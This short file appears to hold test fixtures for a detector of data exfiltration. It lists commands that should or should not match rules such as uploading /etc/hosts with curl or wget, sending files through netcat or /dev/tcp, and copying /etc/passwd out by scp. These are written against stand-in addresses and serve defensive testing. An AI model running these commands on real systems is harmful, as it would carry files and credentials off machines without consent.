# SPDX-License-Identifier: Apache-2.0
# exfiltration.sh - what carries data away; read by ../record.sh, which says what the words mean
# shellcheck shell=bash disable=SC2016,SC2088

rule file_uploaded
stand_in match curl -T /etc/hosts http://192.0.2.1/
stand_in match wget --post-file=/etc/hosts http://192.0.2.1/
stand_in no_match curl -o /etc/hosts http://192.0.2.1/

rule file_sent_by_netcat
stand_in match sh -c 'tar c /tmp/none | nc 127.0.0.1 1'
stand_in match bash -c 'cat /etc/hostname >/dev/tcp/127.0.0.1/1'
stand_in no_match sh -c 'tar c /tmp/none | wc -c'

rule web_server_of_interpreter
stand_in match python3 -m http.server 9090
stand_in match busybox httpd -f -p 8080
stand_in no_match python3 -m json.tool x

rule cloud_storage_copied_to
stand_in match rclone copy /tmp/x remote:y
stand_in no_match rclone listremotes
child no_match restic rclone copy /tmp/x remote:y

rule files_copied_out_by_ssh
stand_in match scp /etc/passwd x@192.0.2.1:
stand_in no_match scp /etc/motd x@192.0.2.1:
child no_match rsnapshot scp /etc/passwd x@192.0.2.1:
